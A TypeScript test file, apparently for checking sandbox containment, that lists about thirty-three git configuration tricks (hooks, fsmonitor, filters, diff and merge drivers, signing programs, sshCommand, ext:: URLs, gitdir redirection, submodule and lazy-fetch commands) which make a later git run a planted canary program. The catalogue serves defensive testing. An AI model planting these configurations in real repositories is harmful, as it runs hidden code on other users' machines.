/**
 * A configuration that a task plants in the git it was given, so that another git runs a program of the task's.
 * `$d` is the context's git dir, `$c` what it shares with others, `$CANARY` the program.
 */
export interface Plant {
  readonly name: string;
  readonly script: string;
  /** Whether an ordinary git, as people use it, surely falls for it: an attack that always fails shows nothing. */
  readonly fires: boolean;
}

const hooks =
  "applypatch-msg pre-applypatch post-applypatch pre-commit prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-merge-commit " +
  "post-index-change reference-transaction pre-auto-gc post-rewrite fsmonitor-watchman pre-push pre-receive update post-receive post-update proc-receive";

/** A hook of every kind in a folder. */
function hooksIn(folder: string, name: string): string {
  return `mkdir -p ${folder}; for h in ${hooks}; do printf '#!/bin/sh\\nexec "%s" ${name}\\n' "$CANARY" >${folder}/$h; chmod +x ${folder}/$h; done`;
}

const set = (key: string, name: string): string => `git config ${key} "$CANARY ${name}"`;
const attributes = (line: string): string => `echo '* ${line}' >.gitattributes`;

/** What git does about files and commits. */
const daily: readonly Plant[] = [
  { name: "hooks", fires: true, script: hooksIn('"$c/hooks"', "hooks") },
  {
    name: "hooks-path",
    fires: true,
    script: `${hooksIn("$PWD/.husky", "hooks-path")}; git config core.hooksPath "$PWD/.husky"`,
  },
  { name: "fsmonitor", fires: true, script: set("core.fsmonitor", "fsmonitor") },
  {
    name: "include",
    fires: true,
    script:
      'printf "[core]\\n\\tfsmonitor = %s include\\n" "$CANARY" >included; git config include.path "$PWD/included"',
  },
  {
    name: "worktree-config",
    fires: true,
    script: 'git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$CANARY worktree-config"',
  },
  { name: "clean", fires: true, script: `${set("filter.x.clean", "clean")}; ${attributes("filter=x")}` },
  {
    name: "clean-by-info",
    fires: true,
    script: `${set("filter.x.clean", "clean-by-info")}; mkdir -p "$c/info"; echo '* filter=x' >"$c/info/attributes"`,
  },
  { name: "smudge", fires: true, script: `${set("filter.x.smudge", "smudge")}; ${attributes("filter=x")}` },
  { name: "process", fires: true, script: `${set("filter.x.process", "process")}; ${attributes("filter=x")}` },
  { name: "merge-driver", fires: true, script: `${set("merge.x.driver", "merge-driver")}; ${attributes("merge=x")}` },
  { name: "textconv", fires: true, script: `${set("diff.x.textconv", "textconv")}; ${attributes("diff=x")}` },
  { name: "diff-command", fires: true, script: `${set("diff.x.command", "diff-command")}; ${attributes("diff=x")}` },
  { name: "diff-external", fires: true, script: set("diff.external", "diff-external") },
  { name: "sign", fires: true, script: `git config commit.gpgSign true; ${program("gpg.program", "sign")}` },
  {
    name: "sign-ssh",
    fires: true,
    script: `git config commit.gpgSign true; git config gpg.format ssh; git config user.signingKey "$PWD/key"; ${program("gpg.ssh.program", "sign-ssh")}`,
  },
  {
    name: "verify",
    fires: true,
    script: `git config log.showSignature true; ${program("gpg.program", "verify")}; ${signedCommit()}`,
  },
];

/** What git does about other repositories, and where it finds its own. */
const places: readonly Plant[] = [
  {
    name: "ssh-command",
    fires: true,
    script: `git config remote.origin.url ssh://nobody.invalid/x; ${set("core.sshCommand", "ssh-command")}`,
  },
  {
    name: "ext-url",
    fires: true,
    script: 'git config protocol.ext.allow always; git config remote.origin.url "ext::$CANARY ext-url"',
  },
  {
    name: "upload-pack",
    fires: true,
    script: `git config remote.origin.url "$PWD"; ${set("remote.origin.uploadpack", "upload-pack")}`,
  },
  {
    name: "git-file",
    fires: true,
    script: `${evilRepository("git-file")}; rm -rf .git; echo "gitdir: $PWD/.evil" >.git`,
  },
  { name: "commondir", fires: true, script: `${evilRepository("commondir")}; echo "$PWD/.evil" >"$d/commondir"` },
  {
    name: "bare-inside",
    fires: true,
    script: `git init -q --bare pkg; git config -f pkg/config core.bare false; git config -f pkg/config core.worktree "$PWD/pkg"; git config -f pkg/config core.fsmonitor "$CANARY bare-inside"`,
  },
  {
    name: "submodule-update",
    fires: true,
    script: `git config submodule.sub.update "!$CANARY submodule-update"; git config submodule.sub.url "$PWD"; printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ./\\n' >.gitmodules; git init -q sub; git -C sub commit -q --allow-empty -m one; git add -f sub .gitmodules; git -C sub commit -q --allow-empty -m two`,
  },
  {
    name: "alias",
    fires: false,
    script: 'git config alias.status "!$CANARY alias"; git config alias.diff "!$CANARY alias"',
  },
  {
    name: "pager",
    fires: false,
    script: `${set("core.pager", "pager")}; ${set("pager.log", "pager")}; ${set("pager.diff", "pager")}`,
  },
  { name: "editor", fires: false, script: `${set("core.editor", "editor")}; ${set("sequence.editor", "editor")}` },
  { name: "credential", fires: false, script: `git config credential.helper "!$CANARY credential"` },
  {
    name: "trailer",
    fires: false,
    script: `${set("trailer.x.command", "trailer")}; ${set("trailer.x.cmd", "trailer")}; git config trailer.x.key X`,
  },
  { name: "alternate-refs", fires: false, script: set("core.alternateRefsCommand", "alternate-refs") },
  {
    name: "gc-hook",
    fires: false,
    script: `git config gc.auto 1; ${hooksIn('"$c/hooks"', "gc-hook").replace(hooks, "pre-auto-gc")}`,
  },
];

/** The thirty that are known to work somewhere. */
export const thirty: readonly Plant[] = [...daily, ...places];

/** More of the kind, found since. */
export const more: readonly Plant[] = [
  {
    name: "nested-filter",
    fires: true,
    script: `${nestedRepository("inner", "nested-filter")}; git add -f inner; echo same >>inner/f`,
  },
  { name: "pack-hook", fires: false, script: set("uploadpack.packObjectsHook", "pack-hook") },
  {
    // Objects that are not there any more are fetched from a remote of the task's choice, by a program of its choice.
    name: "lazy-fetch",
    fires: true,
    script: `git config extensions.partialClone evil; git config core.repositoryFormatVersion 1; git config remote.evil.promisor true; git config remote.evil.url "$PWD"; ${set("remote.evil.uploadpack", "lazy-fetch")}; echo work >new.txt; rm -f "$c/objects/info/alternates"`,
  },
];

/** gpg is called with options of its own, so the program is a file that knows its name. */
function program(key: string, name: string): string {
  return `printf '#!/bin/sh\\nexec "%s" ${name}\\n' "$CANARY" >.${name}; chmod +x .${name}; git config ${key} "$PWD/.${name}"`;
}

function signedCommit(): string {
  const signature = "gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n iQ==\\n -----END PGP SIGNATURE-----";
  return `git cat-file commit HEAD | sed '/^committer/a\\${signature}' | git hash-object -t commit -w --stdin >.signed; git update-ref HEAD "$(cat .signed)"`;
}

function evilRepository(name: string): string {
  return `git init -q .made; mv .made/.git .evil; rmdir .made; git config -f .evil/config core.fsmonitor "$CANARY ${name}"; git config -f .evil/config core.worktree "$PWD"`;
}

function nestedRepository(folder: string, name: string): string {
  return `git init -q ${folder}; echo f >${folder}/f; git -C ${folder} add f; git -C ${folder} commit -q -m one; git -C ${folder} config filter.x.clean "$CANARY ${name}"; git -C ${folder} config core.fsmonitor "$CANARY ${name}"; echo '* filter=x' >${folder}/.gitattributes`;
}
